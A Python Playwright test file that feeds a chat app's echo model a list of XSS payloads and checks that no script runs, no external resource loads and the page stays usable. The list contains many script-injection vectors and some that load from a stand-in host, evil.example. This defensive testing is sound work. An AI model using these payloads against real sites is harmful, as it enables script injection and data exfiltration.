"""Answers that mean harm: nothing runs, nothing is fetched from elsewhere, the page stays usable."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.browser.chatting import start
from tests.browser.conftest import Watched
from tests.world import World

pytestmark = pytest.mark.browser
PAYLOADS = [
    "<script>window.hacked=1</script>", "<img src=x onerror='window.hacked=1'>", "<svg onload='window.hacked=1'>",
    "<svg><script>window.hacked=1</script></svg>", "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>", "<body onload='window.hacked=1'>",
    "<details open ontoggle='window.hacked=1'>x</details>", "<input autofocus onfocus='window.hacked=1'>",
    "<video><source onerror='window.hacked=1'></video>", "<math><mtext><script>window.hacked=1</script></mtext></math>",
    "<a href='javascript:window.hacked=1'>click</a>", "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)", "[click](java\tscript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)", "<javascript:window.hacked=1>",
    "![x](javascript:window.hacked=1)", "![x](https://evil.example/?q=secret)", "<img src='https://evil.example/p.gif'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>", "<style>@import 'https://evil.example/b.css';</style>",
    "<form action='https://evil.example'><button>x</button></form>", "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<object data='https://evil.example'></object>",
    "$\\href{javascript:window.hacked=1}{x}$", "$\\unicode{<script>window.hacked=1</script>}$",
    "$$\\text{<img src=x onerror=window.hacked=1>}$$", "```html\n<script>window.hacked=1</script>\n```",
    "```<script>window.hacked=1</script>\nx\n```", "`<img src=x onerror=window.hacked=1>`",
    "<div style='background:url(https://evil.example/c)'>x</div>", "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>", "[x]: javascript:window.hacked=1\n\n[x]",
]  # fmt: skip


def ask(alice: Watched, text: str) -> None:
    """A new chat in which the model says this back."""
    start(alice, text, "plan:echo=7", "repeats")
    expect(alice.page.get_by_role("button", name="Regenerate", exact=True)).to_be_visible(timeout=30_000)


@pytest.fixture(scope="module")
def repeats(world: World) -> None:
    """A connection whose model says again what it hears, seven characters at a time."""
    world.add("custom", name="Repeats", format="openai", default_model="plan:echo=7")


@pytest.fixture
def echo(repeats: None, alice_at: Callable[..., Watched]) -> Watched:
    """Alice before that model."""
    return alice_at()


def test_nothing_runs_and_nothing_is_fetched(echo: Watched) -> None:
    ask(echo, "\n\n".join(PAYLOADS))
    for payload in PAYLOADS[:: len(PAYLOADS) // 6]:
        ask(echo, payload)
    for link in echo.page.locator("article a").all():
        assert (link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:", "/", "#"))
    assert echo.page.evaluate("window.hacked") is None
    echo.page.reload()
    assert echo.page.evaluate("window.hacked") is None


@pytest.mark.parametrize("text", [">" * 20_000, "x" * 1_000_000, "- " * 5_000, "[" * 20_000, "\ud83d\ude00" * 5_000])
def test_page_stays_usable(echo: Watched, text: str) -> None:
    ask(echo, text)
    echo.page.get_by_role("textbox", name="Message").fill("still there")
    expect(echo.page.get_by_role("textbox", name="Message")).to_have_value("still there")
